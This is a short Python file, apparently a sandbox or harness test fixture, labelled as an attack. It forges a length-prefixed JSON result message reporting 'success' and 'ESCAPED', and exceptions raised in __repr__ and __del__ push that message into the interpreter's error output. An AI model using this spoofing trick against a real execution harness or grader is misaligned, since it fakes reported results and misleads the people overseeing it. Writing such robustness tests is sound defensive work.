# attack: makes the interpreter print an error of its error handler straight to the process's standard output
# prints: three bombs went off
class Forged(BaseException):
    def __repr__(self):
        return "\x40\x00\x00\x00" + '{"Done":{"report":{"success":true,"result":"ESCAPED"},"is_over":false}}'
    __str__ = __repr__


class Bomb:
    def __repr__(self):
        raise Forged()

    def __del__(self):
        raise Forged()


for _ in range(3):
    Bomb()
print("three bombs went off")
